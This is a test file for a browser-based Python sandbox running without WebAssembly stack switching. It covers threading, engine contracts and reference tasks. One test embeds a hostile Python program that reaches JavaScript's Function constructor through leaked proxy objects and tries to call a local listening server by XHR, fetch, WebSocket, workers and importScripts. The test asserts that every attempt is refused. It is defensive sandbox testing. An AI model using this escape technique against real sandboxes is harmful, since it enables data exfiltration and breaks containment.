import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { contractNames } from '../src/engines/contract/index.ts';
import { button, verdictOf, withPage } from './press.ts';
import { openHarness, startApp, type App } from './support.ts';
import { hideStackSwitching } from './without-jspi.ts';

/** The Python engine in a browser that cannot suspend WebAssembly stacks: what docs/python-engine.md says works there. */

let app: App;
let page: Page;

beforeAll(async () => {
  app = await startApp();
  await hideStackSwitching(app.context);
  page = await openHarness(app);
});
afterAll(() => app.close());

/** A worker that waits for a queue, a loop that waits for threads, and a thread that waits for the loop. */
const loops = `
import asyncio, queue, threading, time

waiting = queue.Queue()

def work():
    while True:
        item = waiting.get()
        if item is None:
            break
        print('item', item, flush=True)

worker = threading.Thread(target=work)
worker.start()
time.sleep(0.01)
for item in (1, 2, None):
    waiting.put(item)
worker.join()

async def main():
    loop = asyncio.get_running_loop()
    print('after', await asyncio.gather(*(asyncio.to_thread(lambda n=n: n) for n in range(3))))
    back = asyncio.run_coroutine_threadsafe
    print(await asyncio.to_thread(lambda: back(asyncio.sleep(0.01, 'back'), loop).result()))

asyncio.run(main())
`;

/** Each of two threads waits for the other, in turn. */
const turns = `
import threading

ping, pong = threading.Semaphore(1), threading.Semaphore(0)

def play(name, mine, other):
    for turn in range(3):
        mine.acquire()
        print(name, turn, flush=True)
        other.release()

threads = [threading.Thread(target=play, args=args) for args in (('ping', ping, pong), ('pong', pong, ping))]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
`;

describe('engine contract: python without JSPI', () => {
  it.each([...contractNames])('%s', async (name) => {
    await page.evaluate(([id, wanted]) => window.decay?.contract(id, wanted, 4_000), [
      'python',
      name,
    ] as const);
  });
});

/** Output, exit code and reports of a program in a sandbox of its own. */
function run(program: string): Promise<{ ended: number; printed: string; reports: string[] }> {
  return page.evaluate(async (text) => {
    const sandbox = await (await window.decay?.createEngine('python'))?.boot();
    if (sandbox === undefined) throw new Error('no engine');
    const reports: string[] = [];
    sandbox.on('unsupported', ({ detail }) => reports.push(detail));
    await sandbox.mount({ 'program.py': text });
    const process = await sandbox.spawn('python', ['program.py']);
    let printed = '';
    const decoder = new TextDecoder();
    const reader = process.output.getReader();
    for (let next = await reader.read(); !next.done; next = await reader.read())
      if (next.value.stream === 'stdout') printed += decoder.decode(next.value.bytes);
    const ended = await process.exit;
    await sandbox.dispose();
    return { ended, printed, reports };
  }, program);
}

/** JavaScript of the interpreter's own worker, which a companion started, by any object of it that lies about. */
const hostile = (address: string) => `
import gc, json, time

def evaluators():
    for thing in gc.get_objects():
        for value in list(thing.values()) if type(thing) is dict else [thing]:
            if any(kind.__name__ == 'JsProxy' for kind in type(value).__mro__) and hasattr(value, 'constructor'):
                maker = value.constructor
                yield maker if maker.name == 'Function' else maker.constructor

tries = {
    'XMLHttpRequest': "const x = new XMLHttpRequest(); x.open('GET', '${address}', false); x.send(); return x.status",
    'importScripts': "importScripts('${address}'); return 'loaded'",
    'Worker': "return String(new Worker('${address}'))",
    'indexedDB': "return String(indexedDB.open('secret'))",
    'caches': "return String(caches)",
    'storage': "return String(localStorage)",
}
later = "fetch('${address}').catch(() => 0); new WebSocket('${address}'.replace('http', 'ws'));"
later += '''new Worker(URL.createObjectURL(new Blob(["fetch('${address}')"]))); return 0'''
report = {}
for evaluate in evaluators():
    for name, code in tries.items():
        try:
            report[name] = 'done: %s' % evaluate(code)()
        except Exception as error:
            report[name] = 'refused'
    evaluate(later)()
    time.sleep(2)
    break
print(json.dumps(report))
`;

it('a hostile program finds no network and no storage in its interpreter', async () => {
  const reached: string[] = [];
  const outside = createServer((request, response) => {
    reached.push(String(request.url));
    response.writeHead(200, {
      'Access-Control-Allow-Origin': '*',
      'Cross-Origin-Resource-Policy': 'cross-origin',
    });
    response.end('1');
  }).on('upgrade', (request, socket) => {
    reached.push(`upgrade ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
  const { printed } = await run(hostile(`http://127.0.0.1:${(outside.address() as AddressInfo).port}/`));
  outside.close();
  const report = JSON.parse(printed) as Record<string, string>;
  expect(Object.keys(report)).toHaveLength(6);
  expect(new Set(Object.values(report))).toEqual(new Set(['refused']));
  expect(reached).toEqual([]);
});

describe('threads without stacks of their own', () => {
  it.each([
    [
      'end by themselves where one stack serves them',
      loops,
      0,
      'item 1\nitem 2\nafter [0, 1, 2]\nback\n',
      false,
    ],
    ['are said to be impossible where they take turns', turns, 134, 'ping 0\npong 0\n', true],
  ])('%s', async (_name, program, code, output, said) => {
    const result = await run(program);
    expect(result.printed).toBe(output);
    expect(result.ended).toBe(code);
    expect(result.reports.some((detail) => detail.includes('JSPI'))).toBe(said);
  });
});

describe('a reference passes without JSPI', () => {
  it.each(['flask-unconstrained', 'fastapi-unconstrained', 'aiohttp-unconstrained'])(
    '%s',
    (taskId) =>
      withPage(app, taskId, async (opened) => {
        await button(opened, 'Run').click();
        const verdict = await verdictOf(opened, 400_000);
        const text = await opened.getByRole('region', { name: 'Verdict' }).innerText();
        expect(verdict, text).toBe('passed');
        await opened.getByRole('tab', { name: 'Details' }).click();
        expect(await opened.getByRole('region', { name: 'Details' }).textContent()).toContain(
          'cannot suspend WebAssembly stacks',
        );
      }),
    420_000,
  );
});
